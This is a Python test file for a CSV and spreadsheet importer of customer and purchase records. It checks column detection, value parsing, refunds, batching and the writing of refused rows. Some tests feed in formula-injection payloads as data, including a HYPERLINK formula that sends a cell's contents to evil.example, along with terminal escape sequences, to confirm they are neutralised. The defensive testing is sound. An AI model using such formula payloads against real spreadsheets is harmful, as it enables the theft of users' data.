@@ -1,0 +1,562 @@
+"""Rows of a file checked without a service: which columns, what cells mean, what is told or refused."""
+
+import csv
+import io
+import re
+from collections.abc import Callable
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import grpc
+import openpyxl
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from chassis.api.currencies import Currency
+from chassis.api.text import NOT_TEXT
+from rapport_imports.columns import columns_for
+from rapport_imports.decoding import UnreadableFile
+from rapport_imports.engine import BATCH_CHARACTERS, Run
+from rapport_imports.fields import Cells, Notation
+from rapport_imports.neutral import neutralised, restored
+from rapport_imports.purchases import PurchaseImporter
+from rapport_imports.result import Result
+from rapport_imports.tabular import Problem, Row, open_table
+from rapport_tools.cli.import_telling import tell
+
+Check = Callable[..., tuple[int, dict[str, Any], str]]
+
+CUSTOMERS = (
+    "external_id",
+    "display_name",
+    "given_name",
+    "family_name",
+    "organization_name",
+    "email",
+    "phone",
+    "country",
+)
+PURCHASES = ("customer", "email", "date", "amount", "currency", "quantity", "reference", "status")
+
+
+@pytest.fixture
+async def importer() -> PurchaseImporter:
+    return PurchaseImporter(lambda _: grpc.aio.insecure_channel("localhost:1"), "x")
+
+
+def cells(**values: str) -> Cells:
+    notation = Notation(Currency.of("USD"), country="DE")
+    return Cells(Row(2, dict(values)), {name: name for name in values}, notation)
+
+
+def test_a_number_copied_from_an_address_book_is_that_number() -> None:
+    copied = cells(
+        phone="\u202a+49 30 1234567\u202c; \u2068030 7654321\u2069", email="\u202aa@x.example\u202c"
+    )
+    assert copied.several("phone") == ["+49 30 1234567", "030 7654321"]
+    assert copied.text("email") == "a@x.example"
+    assert cells(phone="\u200e+49 30 901820\u200b ").text("phone") == "+49 30 901820"
+
+
+@pytest.mark.parametrize(
+    "header",
+    [
+        "Kundennummer;Vorname;Nachname;E-Mail-Adresse;Telefon;Land",
+        "Kundennr.;Vorname;Nachname;E-Mail;Telefon-Nr.;Land",
+        "Kunden-No.;Vorname;Nachname;Mail;Telefonnummer;Land",
+        "Customer No.;First Name;Last Name;Email;Phone No.;Country",
+        "N° client;Prénom;Nom;Courriel;Téléphone;Pays",
+        "Código cliente;Nombre;Apellidos;Correo electrónico;Teléfono;País",
+        "Codice cliente;Nome;Cognome;Indirizzo e-mail;Telefono;Paese",
+        "ID Cliente;Nome;Sobrenome;E-mail;Telefone;País",
+        "Klantnummer;Voornaam;Achternaam;E-mailadres;Telefoon;Land",
+        "Record ID;First Name;Last Name;Email;Phone Number;Country/Region",
+        "Customer ID;First Name;Last Name;Email;Phone;Default Address Country Code",
+    ],
+)
+def test_columns_are_known_in_the_big_languages_and_of_well_known_systems(header: str) -> None:
+    columns = header.split(";")
+    wanted = ("external_id", "given_name", "family_name", "email", "phone", "country")
+    assert list(columns_for(CUSTOMERS, (), columns, {}).items()) == sorted(
+        zip(wanted, columns, strict=True), key=lambda pair: CUSTOMERS.index(pair[0])
+    )
+
+
+SHOPIFY = [
+    "Name",
+    "Email",
+    "Financial Status",
+    "Paid at",
+    "Currency",
+    "Total",
+    "Created at",
+    "Billing Name",
+    "Id",
+]
+STRIPE = ["id", "Created date (UTC)", "Amount", "Currency", "Status", "Customer Email", "Customer ID"]
+
+
+def test_the_id_and_name_of_an_order_are_nobodys() -> None:
+    assert columns_for(CUSTOMERS, (), SHOPIFY, {}) == {"display_name": "Billing Name", "email": "Email"}
+    assert columns_for(CUSTOMERS, (), ["id", "customer_email", "date", "amount"], {}) == {
+        "email": "customer_email"
+    }
+    assert columns_for(CUSTOMERS, (), ["id", "name", "total"], {}) == {
+        "external_id": "id",
+        "display_name": "name",
+    }
+    used = columns_for(PURCHASES, (), ["id", "customer_email", "date", "amount"], {})
+    assert used == {"email": "customer_email", "date": "date", "amount": "amount", "reference": "id"}
+
+
+def test_the_exports_of_shops_and_payments_are_purchases() -> None:
+    shop = columns_for(PURCHASES, ("amount", "date"), SHOPIFY, {})
+    assert (shop["email"], shop["date"], shop["amount"]) == ("Email", "Created at", "Total")
+    assert shop["status"] == "Financial Status"
+    paid = columns_for(PURCHASES, ("amount", "date"), STRIPE, {})
+    assert (paid["customer"], paid["email"]) == ("Customer ID", "Customer Email")
+    assert (paid["date"], paid["reference"]) == ("Created date (UTC)", "id")
+
+
+def test_a_mapped_column_is_not_guessed_for_another_field() -> None:
+    header = ["Kundennummer", "Vorname"]
+    fields = (*CUSTOMERS, "account_number")
+    assert columns_for(fields, (), header, {"account_number": "Kundennummer"}) == {
+        "given_name": "Vorname",
+        "account_number": "Kundennummer",
+    }
+
+
+@pytest.mark.parametrize("mapping", [{}, {"amount": "y"}, {"nothing": "x"}])
+def test_a_column_that_cannot_be_told_is_asked_for(mapping: dict[str, str]) -> None:
+    with pytest.raises(UnreadableFile, match=r"--map amount=|--map nothing="):
+        columns_for(["amount"], ["amount"], ["x"], mapping)
+
+
+@pytest.mark.parametrize(
+    ("text", "code"),
+    [
+        ("en_US", "en-US"),
+        ("DE", "de"),
+        ("de-de.UTF-8", "de-DE"),
+        ("zh_hant_tw", "zh-Hant-TW"),
+        ("German", "de"),
+        ("", ""),
+        ("Deutsch", "de"),
+        ("español", "es"),
+        ("x y", ""),
+        ("Narnian", ""),
+        ("de-Austria", ""),
+    ],
+)
+def test_languages_are_written_as_bcp_47_and_told_when_they_are_none(text: str, code: str) -> None:
+    row = cells(language=text)
+    assert row.language("language") == code
+    assert [told.reason for told in row.row.told] == ["INVALID_CODE"] * (bool(text) and not code)
+
+
+@pytest.mark.parametrize(
+    "text", ["Germany", "DE", "deu", "Deutschland", "Allemagne", "ALEMANIA", "Duitsland", ""]
+)
+def test_countries_are_known_by_name_and_by_code_and_by_the_option(text: str) -> None:
+    assert cells(country=text).region("country") == "DE"
+
+
+def test_a_country_that_is_none_is_told() -> None:
+    row = cells(country="Nowhere")
+    row.region("country")
+    assert [told.column for told in row.row.told] == ["country"]
+
+
+@pytest.mark.parametrize("nothing", ["NULL", "null", "\\N", "N/A", "#N/A", "NaN", "None", "-", " "])
+def test_what_exports_write_for_nothing_is_nothing(nothing: str) -> None:
+    row = cells(date=nothing, email=nothing, quantity=nothing, family_name="Null")
+    assert (row.moment("date"), row.several("email"), row.count("quantity")) == (None, [], 0)
+    assert row.text("family_name") == "Null"
+    assert row.row.problems == []
+
+
+def test_a_cell_may_hold_several_addresses_and_a_name_is_one_line() -> None:
+    row = cells(
+        email="a@x.example; b@y.example,", phone="030 1234567\n0171 1234567", display_name="Acme\nLtd"
+    )
+    assert row.several("email") == ["a@x.example", "b@y.example"]
+    assert row.several("phone") == ["030 1234567", "0171 1234567"]
+    assert row.text("display_name") == "Acme Ltd"
+
+
+def test_the_columns_that_are_used_and_ignored_are_told(check: Check) -> None:
+    code, result, _ = check("customers", "id;Vorname;Notiz\n1;Anna;x\n")
+    assert (code, result["rows"]) == (0, 1)
+    assert (result["used"], result["ignored"]) == ({"external_id": "id", "given_name": "Vorname"}, ["Notiz"])
+
+
+def test_the_currency_of_the_installation_is_the_default_and_the_only_one(
+    check: Check, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    file = "customer_id,date,amount,currency\na,2026-01-02,1.00,EUR\n"
+    code, result, _ = check("purchases", file)
+    assert (code, result["refused"]) == (1, 1)
+    told = Path(result["errors_file"]).read_text()
+    assert "must be USD, the currency of this installation (RAPPORT_CURRENCY)" in told
+    monkeypatch.setenv("RAPPORT_CURRENCY", "EUR")
+    assert check("purchases", file)[0] == 0
+    assert check("purchases", 'customer_id,date,amount\na,2026-01-02,"1,00 €"\n')[0] == 0
+    assert check("purchases", "customer_id,date,amount\na,2026-01-02,$1.00\n")[0] == 1
+    code, _, told = check("purchases", file, "--currency", "USD")
+    assert (code, "must be EUR" in told) == (2, True)
+
+
+def test_payments_that_came_to_nothing_and_further_lines_of_an_order_are_skipped(check: Check) -> None:
+    file = (
+        "Email,Created at,Total,Id,Financial Status\n"
+        "a@x.example,2026-01-02 10:00:00 -0500,10.00,1,paid\n"
+        "a@x.example,2026-01-02 10:00:00 -0500,,1,\n"
+        "b@x.example,2026-01-03 10:00:00 -0500,5.00,2,refunded\n"
+        "c@x.example,2026-01-03 10:00:00 -0500,-5.00,3,paid\n"
+        "d@x.example,2026-01-03 10:00:00 -0500,,4,failed\n"
+        "d@x.example,2026-01-03 10:00:00 -0500,5.00,5,wc-failed\n"
+    )
+    code, result, _ = check("purchases", file)
+    assert (code, result["rows"], result["skipped"], result["refused"]) == (0, 6, 3, 0)
+
+
+def test_an_order_of_several_lines_is_one_purchase_by_its_name_and_the_rest_is_told(check: Check) -> None:
+    header = "Name,Email,Financial Status,Total,Created at,Lineitem name,Id\n"
+    lines = "".join(
+        f"#{i},a@x.example,paid,10.00,2026-01-02 10:00:00 -0500,Tea,{i}00\n"
+        f"#{i},a@x.example,,,2026-01-02 10:00:00 -0500,Cup,\n"
+        for i in range(1, 1300)
+    )
+    late = "#7,a@x.example,,,2026-01-02 10:00:00 -0500,Pot,\n"
+    code, result, _ = check("purchases", header + lines + late)
+    assert (code, result["refused"], result["skipped"]) == (0, 0, 1300)
+    assert result["used"]["reference"] == "Name"
+    [told] = result["told"]
+    assert (told["reason"], told["count"], told["lines"][0]) == ("FURTHER_LINE", 1300, 3)
+
+
+@pytest.mark.parametrize(
+    ("header", "system"),
+    [
+        ("Name,Email,Financial Status,Total,Created at", "shopify"),
+        ("Customer ID,First Name,Last Name,Email,Accepts Email Marketing", "shopify"),
+        ("id,Created date (UTC),Amount,Currency,Status,Customer Email", "stripe"),
+        ("Record ID,First Name,Last Name,Email,Phone Number", "hubspot"),
+        ("Record ID - Contact,First Name,Last Name,Email", "hubspot"),
+        ("Contact ID,Account Name,First Name,Last Name,Email", "salesforce"),
+        ("customer_id,billing_first_name,billing_email", "woocommerce"),
+        ("Kundennr.,Vorname,Nachname", "import"),
+    ],
+)
+def test_ids_are_of_the_tool_that_exported_the_file_unless_said_otherwise(
+    check: Check, header: str, system: str
+) -> None:
+    file = f"{header}\n" + ",".join("1" for _ in header.split(",")) + "\n"
+    assert check("customers", file)[1]["system"] == system
+    assert check("customers", file, "--system", "ours")[1]["system"] == "ours"
+
+
+def test_reasons_are_grouped_by_column_counted_and_shown_with_an_example(check: Check) -> None:
+    rows = "".join(f"c{i},2026-01-0{i % 3},{i}\n" for i in range(1, 9)) + ",2026-01-02,x\n"
+    result = check("purchases", f"customer_id,date,amount\n{rows}")[1]
+    assert [(r["reason"], r["column"], r["count"], r["lines"]) for r in result["refusals"]] == [
+        ("INVALID_TIME", "date", 2, [4, 7]),
+        ("INVALID_AMOUNT", "amount", 1, [10]),
+    ]
+
+
+def test_what_differs_between_rows_makes_no_group(capsys: pytest.CaptureFixture[str]) -> None:
+    result = Result(rows=9, refused=7)
+    for line in range(2, 1239):
+        result.tell(line, Problem("name", "RENAMED", f"customers/{line} had another name until now"))
+    for i in range(7):
+        for line in range(i + 1):
+            result.judge(Row(line, {}, [Problem(f"c{i}", "REQUIRED", "must be given")]))
+    tell(result, "t.csv", dry_run=False)
+    shown = [line.strip() for line in capsys.readouterr().err.splitlines()]
+    assert shown[1].startswith("1,237 x RENAMED in name, as in line 2: customers/2 had")
+    assert shown[2] == "lines 2-1238"
+    assert [line.split(",")[0] for line in shown[4:] if not line.startswith("lines")] == [
+        *(f"{i + 1} x REQUIRED in c{i}" for i in range(6, 1, -1)),
+        "3 x for 2 more reasons: --json has them all",
+    ]
+
+
+@pytest.mark.parametrize(
+    ("amount", "refunded", "status", "back"),
+    [
+        ("10", "", "paid", 0),
+        ("10", "2.50", "partially_refunded", 2.5),
+        ("10", "-10", "", 10),
+        ("10", "", "Refunded", 10),
+        ("10", "", "wc-cancelled", 10),
+        ("5", "0", "", 0),
+        ("-5", "0", "refunded", 0),
+        ("-3", "-3", "", 0),
+    ],
+)
+async def test_what_was_given_back_of_a_purchase_is_told_with_it(
+    importer: PurchaseImporter, amount: str, refunded: str, status: str, back: float
+) -> None:
+    row = cells(email="a@x.example", date="2026-01-02", amount=amount, refunded=refunded, status=status)
+    bought = importer.parse(row)
+    assert bought is not None
+    assert (bought.amount, bought.refunded) == (Decimal(amount), back)
+    assert row.row.problems == []
+
+
+def test_money_that_went_out_is_of_nobody_where_rows_name_who_sent_it(check: Check) -> None:
+    head = "Date,Gross,From Email Address,To Email Address,Transaction ID\n"
+    rows = "2026-01-20,100.00,a@x.example,us@y.example,7A\n2026-01-21,-40.00,us@y.example,a@x.example,7B\n"
+    result = check("purchases", head + rows)[1]
+    assert (result["system"], result["skipped"], result["refused"]) == ("paypal", 1, 0)
+    assert [(told["reason"], told["lines"]) for told in result["told"]] == [("PAID_OUT", [3])]
+
+
+async def test_no_more_is_given_back_than_was_paid(importer: PurchaseImporter) -> None:
+    row = cells(email="a@x.example", date="2026-01-02", amount="10", refunded="10.01")
+    importer.parse(row)
+    assert [(problem.column, problem.reason) for problem in row.row.problems] == [
+        ("refunded", "INVALID_AMOUNT")
+    ]
+
+
+def test_the_apostrophe_that_keeps_an_id_text_is_not_of_it() -> None:
+    row = cells(external_id="'00123", phone="'+4930901820", display_name="'s-Gravenhage BV")
+    assert [row.text(field) for field in ("external_id", "phone")] == ["00123", "+4930901820"]
+    assert row.text("display_name") == "'s-Gravenhage BV"
+
+
+def test_what_stays_ambiguous_ends_before_anything_is_done(check: Check) -> None:
+    code, _, told = check("purchases", "customer_id,date,amount\na,2026-01-02,12.500\n")
+    assert (code, "--decimal" in told) == (2, True)
+    code, _, told = check("purchases", "customer_id,date,amount\na,01/02/2026,1.00\n")
+    assert (code, "--date-format" in told) == (2, True)
+    for file in (
+        "customer_id,date,amount\na,2026-01-02,12.500\n",
+        "customer_id,date,amount\na,2026-01-02,1\n",
+    ):
+        assert check("purchases", file, "--decimal", ",")[0] == 0
+
+
+def test_a_date_cell_and_a_text_are_both_read_with_a_format(check: Check) -> None:
+    file = "customer_id,date,amount\na,2026-03-02T00:00:00,1.00\nb,02.03.2026,1.00\n"
+    assert check("purchases", file, "--date-format", "%d.%m.%Y")[0] == 0
+
+
+@pytest.mark.parametrize("file", ["id,name\n", "id,name\n,\n"])
+def test_an_import_of_nothing_says_so(check: Check, file: str) -> None:
+    code, _, told = check("customers", file)
+    assert (code, "no rows under its header" in told) == (2, True)
+
+
+REFUSED = 'customer_id,date,amount\n"=HYPERLINK(""http://evil.example/?""&A1)",yesterday,1\n@SUM(1+1),yesterday,1,more\n'
+
+
+def test_refused_rows_are_no_formulas_and_come_back_as_they_were(check: Check, tmp_path: Path) -> None:
+    _, result, _ = check("purchases", REFUSED)
+    lines = list(csv.reader(Path(result["errors_file"]).read_text().splitlines()))
+    assert not any(cell.startswith(("=", "+", "-", "@")) for line in lines for cell in line)
+    assert [line[3] for line in lines] == ["", "", "more"]
+    first, second = open_table(Path(result["errors_file"])).rows()
+    source = open_table(tmp_path / "t.csv")
+    assert first.cells["customer_id"] == '=HYPERLINK("http://evil.example/?"&A1)'
+    assert (second.cells["customer_id"], second.extra) == ("@SUM(1+1)", ["more"])
+    assert [first.origin, second.origin] == [row.origin for row in source.rows()]
+
+
+def test_control_characters_reach_no_terminal_and_no_errors_file(check: Check, tmp_path: Path) -> None:
+    code, result, _ = check(
+        "customers", "id,na\x1b[31mme\n1,a\x1b[2Jb\n2,a\x00b\x9b\n", "--map", "display_name=na␛[31mme"
+    )
+    written = Path(result["errors_file"]).read_text()
+    assert (code, result["refused"], result["used"]["display_name"]) == (1, 2, "na␛[31mme")
+    assert "a␛[2Jb" in written
+    assert "a␀b␦" in written
+    assert not NOT_TEXT.search(written.replace("\r", ""))
+    (tmp_path / "again.csv").write_text(written)
+    assert check("customers", written, "--map", "display_name=na␛[31mme", name="again.csv")[1]["refused"] == 2
+
+
+@given(st.text(alphabet="=+-@'\t\r\n;,| \"\uff1d\uff0b\uff0d\uff20aé1"))
+def test_whatever_is_neutralised_is_restored_and_begins_no_formula_however_it_is_split(cell: str) -> None:
+    assert restored(neutralised(cell)) == cell
+    parts = re.split(r"[;,|\t\n]", neutralised(cell))
+    assert not [part for part in parts if part.lstrip('"').startswith(tuple("=+-@\uff1d\uff0b\uff0d\uff20"))]
+
+
+def test_no_cell_of_refused_rows_is_a_formula_where_another_separator_splits(check: Check) -> None:
+    text = 'customer_id,date,amount,"x;=y"\n"a;=HYPERLINK(""http://evil.example/"");b",z,1,\n\uff1d1+1,z,1,\n'
+    path = Path(check("purchases", text, "--map", "reference=x;=y")[1]["errors_file"])
+    for separator in ",;\t|":
+        written = csv.reader(path.read_text().splitlines(), delimiter=separator, strict=False)
+        assert not any(cell.lstrip().startswith(("=", "\uff1d")) for row in written for cell in row)
+    first, second = open_table(path).rows()
+    assert first.cells["customer_id"] == 'a;=HYPERLINK("http://evil.example/");b'
+    assert second.cells["customer_id"] == "\uff1d1+1"
+    assert open_table(path).before.columns["reference"] == "x;=y"
+
+
+def test_refused_rows_are_for_nobody_else_to_read(check: Check) -> None:
+    path = Path(check("customers", "id,name\n,Anna\x1b\n")[1]["errors_file"])
+    assert path.stat().st_mode & 0o777 == 0o600
+
+
+@pytest.mark.parametrize(
+    ("encoding", "separator", "begins"),
+    [
+        ("utf-8", ";", b"id;name;"),
+        ("utf-8-sig", "\t", b"\xef\xbb\xbfid\tname\t"),
+        ("cp1252", ",", b"id,name,"),
+        ("utf-16", ";", b"\xff\xfei\0d\0;\0"),
+    ],
+)
+def test_refused_rows_are_written_as_their_file_was(
+    check: Check, encoding: str, separator: str, begins: bytes
+) -> None:
+    lines = ["id,name,language", "1,Jörg Müller,de", ",Renée Núñez,fr", "3,Zoë\x1b,nl"]
+    file = "\r\n".join(line.replace(",", separator) for line in lines)
+    result = check("customers", f"{file}\r\n".encode(encoding))[1]
+    written = Path(result["errors_file"]).read_bytes()
+    assert (result["refused"], written.startswith(begins)) == (2, True)
+    again = check("customers", written, name="again.csv")[1]
+    assert (again["rows"], again["refused"], again["used"]) == (2, 2, result["used"])
+    [row, _] = open_table(Path(result["errors_file"])).rows()
+    assert row.cells["name"] == "Renée Núñez"
+
+
+def test_the_sheet_that_is_read_and_the_others_are_told(check: Check) -> None:
+    book = openpyxl.Workbook()
+    for title in ("Sales", "Notes", "Old"):
+        sheet = book.create_sheet(title)
+        sheet.append(["id", "name"])
+        sheet.append(["", title])
+    del book["Sheet"]
+    saved = io.BytesIO()
+    book.save(saved)
+    result = check("customers", saved.getvalue(), name="t.xlsx")[1]
+    assert result["notes"] == ["sheet Sales is read; --sheet names another: Notes, Old"]
+    assert Path(result["errors_file"]).read_bytes().startswith("\ufeffid,name,".encode())
+    assert check("customers", saved.getvalue(), "--sheet", "Old", name="t.xlsx")[1]["notes"] == [
+        "sheet Old is read; --sheet names another: Sales, Notes"
+    ]
+
+
+def test_a_declared_separator_is_declared_in_the_file_of_refused_rows(check: Check) -> None:
+    result = check("customers", "sep=;\nid;name\n;Anna\n")[1]
+    assert Path(result["errors_file"]).read_text().startswith("sep=;\nid;name;")
+
+
+def test_no_file_is_overwritten(check: Check, tmp_path: Path) -> None:
+    first = Path(check("purchases", REFUSED)[1]["errors_file"])
+    first.write_text("mended")
+    second = Path(check("purchases", REFUSED)[1]["errors_file"])
+    assert (first.read_text(), first != second) == ("mended", True)
+    check("purchases", REFUSED, "--errors", str(tmp_path / "t.csv"))
+    assert (tmp_path / "t.csv").read_text() == REFUSED
+
+
+def test_a_folder_that_takes_no_file_hides_no_result(check: Check, tmp_path: Path) -> None:
+    code, result, _ = check("purchases", REFUSED, "--errors", str(tmp_path / "t.csv" / "x"))
+    assert (code, result["refused"], result["errors_file"]) == (1, 2, "")
+    assert "could not be written" in result["notes"][0]
+    assert "line 2: INVALID_TIME" in result["notes"][1]
+
+
+class Importer:
+    """Takes every row, or ends at the second batch."""
+
+    fields, required, sources = ("external_id",), (), {}
+
+    def __init__(self, ends: bool = False) -> None:
+        self.sizes: list[int] = []
+        self._ends = ends
+
+    def begin(self, used: object) -> None: ...
+
+    def parse(self, cells: Cells) -> str:
+        return cells.text("external_id")
+
+    async def send(self, items: list[tuple[Row, str]]) -> int:
+        if self.sizes and self._ends:
+            raise ConnectionError
+        self.sizes.append(len(items))
+        return len(items)
+
+    async def finish(self, result: Result) -> dict[int, Any]:
+        return {}
+
+
+async def test_batches_end_at_what_a_service_takes(tmp_path: Path) -> None:
+    path = tmp_path / "t.csv"
+    path.write_text("id,notes\n" + f"1,{'x' * (BATCH_CHARACTERS // 3)}\n" * 7)
+    importer, result, notation = Importer(), Result(), Notation(Currency.of("USD"))
+    run = Run(open_table(path), importer, {}, notation, False, lambda *_: None, result)
+    await run.run(tmp_path / "e.csv")
+    assert (importer.sizes, result.created) == ([3, 3, 1], 7)
+
+
+async def test_what_was_done_before_a_failure_is_known(tmp_path: Path) -> None:
+    path = tmp_path / "t.csv"
+    path.write_text("id\n" + "1\n" * 1500 + "\x01\n")
+    result, notation = Result(), Notation(Currency.of("USD"))
+    run = Run(open_table(path), Importer(ends=True), {}, notation, False, lambda *_: None, result)
+    with pytest.raises(ConnectionError):
+        await run.run(tmp_path / "e.csv")
+    assert (result.rows, result.created, result.used) == (1000, 1000, {"external_id": "id"})
+
+
+def test_a_dry_run_finds_what_the_service_would_refuse_or_tell_of_a_customer(check: Check) -> None:
+    code, result, _ = check(
+        "customers",
+        "id,name,email,phone,language,time zone\n"
+        "1,Anna,anna@example.com,+49 30 901820,de,Europe/Berlin\n"
+        ",Bob,bob(at)example,,de,\n"
+        f"2,{'x' * 201},,,,\n"
+        "3,Dora,,,Narnian,Berlin/Nowhere\n"
+        ",Eve,,12,,\n"
+        f"{'9' * 330},Finn,,,,\n"
+        "7,Gil,not an address,+49 30 901820,,\n"
+        "8,\u200bHal\u3164,an\u200bna@example.com,,,\n"
+        "9,\u2028Ida\u2028Ida,,+49 30\u00ad901820,,\n"
+        "10,\u3164,,+49 30 901820,,\n",
+    )
+    with Path(result["errors_file"]).open() as rows:
+        refused = [
+            (row["error_line"], row["error_reason"], row["error_column"]) for row in csv.DictReader(rows)
+        ]
+    assert (code, refused) == (
+        1,
+        [
+            ("3", "INVALID_EMAIL", "email"),
+            ("4", "TOO_LONG", "name"),
+            ("6", "INVALID_PHONE", "phone"),
+            ("7", "TOO_LONG", "id"),
+            ("9", "INVALID_EMAIL", "email"),
+            ("10", "INVALID_TEXT", "name"),
+        ],
+    )
+    assert [(told["reason"], told["column"], told["lines"]) for told in result["told"]] == [
+        ("INVALID_CODE", "language", [5]),
+        ("INVALID_CODE", "time zone", [5]),
+        ("INVALID_EMAIL", "email", [8]),
+    ]
+
+
+@pytest.mark.parametrize("kind", ["purchases", "orders"])
+def test_a_dry_run_finds_addresses_that_are_none(check: Check, kind: str) -> None:
+    header = "customer,email,date,amount" if kind == "purchases" else "customer,email,promised date,order id"
+    rows = ",anna(at)example,2026-01-02,1\na@b@c,,2026-01-02,2\n7,none at all,2026-01-02,3\n"
+    code, result, _ = check(kind, f"{header}\n{rows}")
+    assert (code, result["refused"]) == (1, 2)
+    assert Path(result["errors_file"]).read_text().count("INVALID_EMAIL") == 2
+
+
+def test_rows_that_are_no_text_are_refused_and_others_are_read(check: Check) -> None:
+    content = b"id,name,notes\n1,Ren\xe9,\n2,N\x00l,\n3,Zo\xc3\xab,\x07\n"
+    code, result, _ = check("customers", content)
+    assert (code, result["rows"], result["refused"]) == (1, 3, 2)
+    assert "Ren\u00e9" in Path(result["errors_file"]).read_text()
